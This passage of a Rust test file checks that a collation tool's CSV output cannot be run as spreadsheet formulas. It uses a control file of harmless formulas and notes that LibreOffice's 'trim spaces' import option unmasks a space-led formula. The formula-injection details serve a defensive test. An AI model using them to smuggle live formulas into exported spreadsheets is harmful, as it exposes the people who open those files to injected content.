    let ids: Vec<String> = (1..=variants.len()).map(|n| format!("1.{n:02}")).collect();
    for (id, text) in ids.iter().zip(variants) {
        v["maturity"]["answers"][id.as_str()]["comment"] = json!(text);
    }
    std::fs::write(dir.join("returns/variants.json"), serde_json::to_string_pretty(&v).unwrap()).unwrap();
    let out = dir.join("variants.csv");
    let o = iacmh(&["collate", dir.join("returns").to_str().unwrap(), "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let questions = dir.join("variants-questions.csv");
    let bytes = std::fs::read(&questions).unwrap();
    assert!(!bytes.contains(&0), "a NUL was written");

    let script = r#"
import csv, json, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    rows = {r["question"]: r["comment"] for r in csv.DictReader(f)}
print(json.dumps(rows))
"#;
    let o = Command::new(python()).args(["-c", script, questions.to_str().unwrap()]).output().expect("run python");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let rows: Value = serde_json::from_slice(&o.stdout).unwrap();
    for (id, text) in ids.iter().zip(variants) {
        let cell = rows[id.as_str()].as_str().unwrap_or_else(|| panic!("no row for {id}: {rows}"));
        assert_eq!(cell, format!("'{}", text.replace('\u{0}', "")), "question {id}");
    }

    let soffice_here = Command::new("soffice").arg("--version").output().is_ok_and(|o| o.status.success());
    if !soffice_here {
        eprintln!("LibreOffice (soffice) is not installed: the CSV was checked with Python's csv only");
        return;
    }
    // A control: LibreOffice does run a bare formula from a CSV, so a count of 0 below means something.
    let control = dir.join("control.csv");
    std::fs::write(&control, "a,b\n=1+1, =2+2\n").unwrap();
    // CSV import options: comma, double quote, UTF-8, from line 1; the second adds "trim spaces"
    // (token 11), under which a leading space no longer hides a formula: the control's second
    // cell becomes one too.
    for (options, in_control) in [("44,34,76,1", 1), ("44,34,76,1,,1033,false,false,false,false,true", 2)] {
        let formulas = |csv: &Path| -> u64 {
            let outdir = dir.join("lo-out");
            let profile = format!("file://{}", dir.join("lo-profile").display());
            let o = Command::new("soffice")
                .args(["--headless", "--norestore", &format!("-env:UserInstallation={profile}")])
                .arg(format!("--infilter=CSV:{options}"))
                .args(["--convert-to", "xlsx", "--outdir", outdir.to_str().unwrap(), csv.to_str().unwrap()])
                .output()
                .expect("run soffice");
            assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
            let xlsx = outdir.join(csv.with_extension("xlsx").file_name().unwrap());
            let count = r#"
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
print(sum(1 for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"))
"#;
            let o = Command::new(python()).args(["-c", count, xlsx.to_str().unwrap()]).output().expect("run python");
            assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
            String::from_utf8_lossy(&o.stdout).trim().parse().unwrap()
        };
        assert_eq!(formulas(&control), in_control, "LibreOffice ran the control's formulas (options {options})");
        assert_eq!(formulas(&questions), 0, "no formula from the collated CSV (options {options})");
    }
}

/// The 42 ICB-level returns of a national round, each with a comment on every answer (the
/// generator's seeds 0 to 41, as the bench uses), make a workbook under the 0.5 MB goal. The
/// bytes are deterministic for a build, so this is a budget, not a timing.
#[test]
fn forty_two_full_returns_make_a_workbook_under_half_a_megabyte() {
    let dir = scratch("size-42");
    let returns = dir.join("returns");
    for seed in 0..42 {
        let r = iacmh_review::example::generated(seed);
        assert_eq!(r.scope.level, iacmh_review::ScopeLevel::Icb, "seed {seed} is an ICB-level return");
        std::fs::write(returns.join(format!("return-{seed:02}.json")), r.to_json()).unwrap();
    }
    let out = dir.join("national.xlsx");
    let o = iacmh(&["collate", returns.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stdout).contains("42 returns"), "{}", String::from_utf8_lossy(&o.stdout));
    let bytes = std::fs::metadata(&out).unwrap().len();
    assert!(bytes < 500_000, "{bytes} bytes for 42 returns");
}
